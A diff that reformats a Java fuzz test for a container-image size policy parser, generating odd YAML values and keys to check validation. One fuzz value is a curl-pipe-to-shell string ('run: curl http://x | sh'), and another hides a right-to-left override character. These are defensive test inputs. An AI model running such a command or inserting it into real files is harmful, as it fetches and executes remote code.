@@ -27,8 +27,11 @@ import net.jqwik.api.Provide;
  */
 class PolicyFileFuzzTest {
     private static final FakeWeigher WEIGHER = new FakeWeigher()
-            .with(FakeWeigher.image("registry.example/team/app:1", BaseImage.UNKNOWN, 300 * FakeWeigher.MIB, 2 * FakeWeigher.MIB))
-            .failing("registry.example/team/broken:1", "cannot weigh registry.example/team/broken:1: \"manifest unknown\"");
+            .with(FakeWeigher.image(
+                    "registry.example/team/app:1", BaseImage.UNKNOWN, 300 * FakeWeigher.MIB, 2 * FakeWeigher.MIB))
+            .failing(
+                    "registry.example/team/broken:1",
+                    "cannot weigh registry.example/team/broken:1: \"manifest unknown\"");
 
     static List<String> seeds() {
         return Stream.of("policies/valid", "policies/invalid", "e2e/policies", "policy-cases")
@@ -38,15 +41,59 @@ class PolicyFileFuzzTest {
 
     @Provide
     Arbitrary<String> policyFiles() {
-        Arbitrary<String> value = Arbitraries.of("5Gi", "0", "-1Mi", "1e3", "0.5Gi", "9223372036854775807", "9223372036854775808",
-                "99999999Ei", "1Ki", "\"\"", "null", "~", "[]", "{}", "deny", "warn", "allow", "audit", "\"\\u202eadmin\"",
-                "\"run: curl http://x | sh\"", "*a", "&a x", "!!binary AAAA", "2147483648", "1.5", "true", "\"**\"", "[\"*\"]");
-        Arbitrary<String> key = Arbitraries.of("maxSize", "maxLayers", "maxLayerSize", "action", "name", "preferredBases",
-                "namespaces", "excludeNamespaces", "kinds", "excludeImages", "onRegistryError", "enforcement", "unknown", "<<");
+        Arbitrary<String> value = Arbitraries.of(
+                "5Gi",
+                "0",
+                "-1Mi",
+                "1e3",
+                "0.5Gi",
+                "9223372036854775807",
+                "9223372036854775808",
+                "99999999Ei",
+                "1Ki",
+                "\"\"",
+                "null",
+                "~",
+                "[]",
+                "{}",
+                "deny",
+                "warn",
+                "allow",
+                "audit",
+                "\"\\u202eadmin\"",
+                "\"run: curl http://x | sh\"",
+                "*a",
+                "&a x",
+                "!!binary AAAA",
+                "2147483648",
+                "1.5",
+                "true",
+                "\"**\"",
+                "[\"*\"]");
+        Arbitrary<String> key = Arbitraries.of(
+                "maxSize",
+                "maxLayers",
+                "maxLayerSize",
+                "action",
+                "name",
+                "preferredBases",
+                "namespaces",
+                "excludeNamespaces",
+                "kinds",
+                "excludeImages",
+                "onRegistryError",
+                "enforcement",
+                "unknown",
+                "<<");
         Arbitrary<String> rule = Combinators.combine(key, value, key, value)
                 .as((k1, v1, k2, v2) -> "    - name: r\n      " + k1 + ": " + v1 + "\n      " + k2 + ": " + v2 + "\n");
-        Arbitrary<String> generated = Combinators.combine(rule.list().ofMaxSize(4), key, value, Arbitraries.integers().between(1, 3))
-                .as((rules, specKey, specValue, documents) -> ("""
+        Arbitrary<String> generated = Combinators.combine(
+                        rule.list().ofMaxSize(4),
+                        key,
+                        value,
+                        Arbitraries.integers().between(1, 3))
+                .as((rules, specKey, specValue, documents) ->
+                        ("""
                         apiVersion: weighbridge.io/v1alpha1
                         kind: ImageSizePolicy
                         metadata:
@@ -56,7 +103,8 @@ class PolicyFileFuzzTest {
                           rules:
                         %s---
                         """.formatted(specKey, specValue, String.join("", rules))).repeat(documents));
-        return Arbitraries.oneOf(Mutations.ofIncludingSeeds(seeds()), generated, generated.flatMap(one -> Mutations.of(List.of(one))));
+        return Arbitraries.oneOf(
+                Mutations.ofIncludingSeeds(seeds()), generated, generated.flatMap(one -> Mutations.of(List.of(one))));
     }
 
     @Property
@@ -91,7 +139,8 @@ class PolicyFileFuzzTest {
     @Example
     void anEscapeCutOffByTheEndOfTheFileIsAProblem() throws Exception {
         for (String escape : List.of("\\x", "\\u", "\\U")) {
-            PolicyValidationException invalid = org.junit.jupiter.api.Assertions.assertThrows(PolicyValidationException.class,
+            PolicyValidationException invalid = org.junit.jupiter.api.Assertions.assertThrows(
+                    PolicyValidationException.class,
                     () -> PolicyLoader.parse("apiVersion: weighbridge.io/v1alpha1\nkind: \"" + escape, "cut.yaml"));
             org.junit.jupiter.api.Assertions.assertEquals(
                     "cut.yaml:2: invalid YAML: an escape sequence (\\x, \\u or \\U) is cut off by the end of the file",
@@ -116,10 +165,14 @@ class PolicyFileFuzzTest {
             return;
         }
         PolicySet policies = (PolicySet) read;
-        List<ImageUse> images = new ArrayList<>(List.of(ImageUse.of("registry.example/team/app:1"),
-                ImageUse.of("registry.example/team/broken:1")));
-        Evaluation evaluation = Fuzz.within(Fuzz.HANG, () -> new DefaultPolicyEngine(WEIGHER, () -> policies)
-                .evaluate(new EvaluationRequest("team-a", "Deployment", images, null, Deadline.in(Duration.ofSeconds(5)))).join());
+        List<ImageUse> images = new ArrayList<>(
+                List.of(ImageUse.of("registry.example/team/app:1"), ImageUse.of("registry.example/team/broken:1")));
+        Evaluation evaluation = Fuzz.within(
+                Fuzz.HANG,
+                () -> new DefaultPolicyEngine(WEIGHER, () -> policies)
+                        .evaluate(new EvaluationRequest(
+                                "team-a", "Deployment", images, null, Deadline.in(Duration.ofSeconds(5))))
+                        .join());
         assertNotNull(evaluation.verdict());
         for (Finding finding : evaluation.findings().toList()) {
             Fuzz.assertOneLine("finding", finding.message());
